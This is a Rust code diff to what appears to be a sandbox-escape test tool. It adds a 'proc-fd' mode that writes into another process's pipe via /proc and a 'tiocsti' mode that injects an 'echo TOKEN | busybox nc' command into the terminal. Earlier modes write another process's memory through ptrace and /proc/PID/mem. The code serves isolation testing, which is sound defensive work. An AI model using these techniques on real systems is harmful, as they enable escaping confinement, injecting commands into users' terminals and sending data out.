@@ -43,11 +43,15 @@
 //!                              device TUNNAME, write an IPv4/UDP packet carrying TOKEN to
 //!                              ADDR:PORT into it (the host forwards it by its routing table)
 //!   puppet SECONDS             (run outside the binding) let any process ptrace us (Yama),
-//!                              print `pid=N flag=0xADDR`; when the u32 at ADDR turns non-zero,
+//!                              print `pid=N flag=0xADDR wfd=W`; when the u32 at ADDR turns
+//!                              non-zero, or a byte arrives on the pipe whose write end is fd W,
 //!                              send TOKEN by UDP and exit; give up after SECONDS
-//!   drive PID FLAGADDR HOW     set the puppet's flag to 1 by HOW: `ptrace` (PTRACE_ATTACH,
+//!   drive PID FLAGADDR HOW [W] set the puppet's flag to 1 by HOW: `ptrace` (PTRACE_ATTACH,
 //!                              PTRACE_POKEDATA, PTRACE_DETACH), `vm-write` (process_vm_writev)
-//!                              or `proc-mem` (pwrite to /proc/PID/mem)
+//!                              or `proc-mem` (pwrite to /proc/PID/mem); or `proc-fd`: reopen
+//!                              /proc/PID/fd/W (the puppet's pipe) and write a byte
+//!   tiocsti                    push "echo TOKEN | busybox nc -w1 ADDR PORT" and a newline into
+//!                              the terminal on fd 0 with TIOCSTI, byte by byte
 //!   clone-into DIR             clone3(CLONE_INTO_CGROUP) into the cgroup directory DIR; the
 //!                              child sends TOKEN by UDP
 //!
@@ -257,8 +261,9 @@ fn ipv4_udp(src: [u8; 4], dst: [u8; 4], port: u16, payload: &[u8]) -> Vec<u8> {
     p
 }
 
-/// Sets the u32 at `addr` in process `pid` to 1 by `how` (see `drive` above).
-fn drive(pid: i32, addr: usize, how: &str) -> bool {
+/// Sets the u32 at `addr` in process `pid` to 1 by `how`, or writes to its pipe (see `drive`
+/// above).
+fn drive(pid: i32, addr: usize, how: &str, wfd: Option<&str>) -> bool {
     let one = 1u32;
     match how {
         "ptrace" => {
@@ -308,7 +313,22 @@ fn drive(pid: i32, addr: usize, how: &str) -> bool {
                 libc::pwrite(fd, (&one as *const u32).cast(), 4, addr as libc::off_t)
             } as _)
         }
-        other => panic!("drive: HOW is ptrace, vm-write or proc-mem, not {other}"),
+        "proc-fd" => {
+            let path = format!(
+                "/proc/{pid}/fd/{}",
+                wfd.expect("proc-fd needs the puppet's W")
+            );
+            let path = std::ffi::CString::new(path).expect("path");
+            // SAFETY: open with a valid C string.
+            let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY) };
+            if !step("open /proc/PID/fd/W", fd as _) {
+                return false;
+            }
+            // SAFETY: a one-byte write from our value.
+            step("write", unsafe { libc::write(fd, b"1".as_ptr().cast(), 1) }
+                as _)
+        }
+        other => panic!("drive: HOW is ptrace, vm-write, proc-mem or proc-fd, not {other}"),
     }
 }
 
@@ -1239,11 +1259,22 @@ pub fn attack(kind: &str, addr: &str, port: &str, token: &str, args: &[&str]) {
             static FLAG: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
             // SAFETY: prctl with plain integer arguments.
             unsafe { libc::prctl(libc::PR_SET_PTRACER, libc::c_ulong::MAX, 0, 0, 0) };
-            println!("pid={} flag={:p}", std::process::id(), &FLAG);
+            let mut pipe = [0i32; 2];
+            // SAFETY: pipe2 fills the two fds.
+            unsafe { libc::pipe2(pipe.as_mut_ptr(), libc::O_NONBLOCK) };
+            println!(
+                "pid={} flag={:p} wfd={}",
+                std::process::id(),
+                &FLAG,
+                pipe[1]
+            );
             let _ = std::io::Write::flush(&mut std::io::stdout());
             let until = Instant::now() + Duration::from_secs(u64::from(num(0)));
             loop {
-                if FLAG.load(std::sync::atomic::Ordering::SeqCst) != 0 {
+                let mut byte = 0u8;
+                // SAFETY: a one-byte read into our buffer.
+                let piped = unsafe { libc::read(pipe[0], (&mut byte as *mut u8).cast(), 1) } == 1;
+                if piped || FLAG.load(std::sync::atomic::Ordering::SeqCst) != 0 {
                     break step("sendto", sendto(udp().as_raw_fd(), msg, &dest));
                 }
                 if Instant::now() > until {
@@ -1257,7 +1288,24 @@ pub fn attack(kind: &str, addr: &str, port: &str, token: &str, args: &[&str]) {
             num(0) as i32,
             usize::from_str_radix(arg(1).trim_start_matches("0x"), 16).expect("FLAGADDR"),
             arg(2),
+            args.get(3).copied(),
         ),
+        "tiocsti" => {
+            let line = format!("echo {token} | /bin/busybox nc -w1 {addr} {port}\n");
+            let mut ok = true;
+            for b in line.bytes() {
+                // SAFETY: TIOCSTI with a pointer to one byte.
+                let rc = unsafe { libc::ioctl(0, libc::TIOCSTI, &b as *const u8) };
+                if rc < 0 {
+                    ok = step("TIOCSTI", rc as _);
+                    break;
+                }
+            }
+            if ok {
+                println!("TIOCSTI: ok");
+            }
+            ok
+        }
         "clone-into" => 'clone: {
             let dir = std::ffi::CString::new(arg(0)).expect("DIR");
             // SAFETY: open with a valid C string.
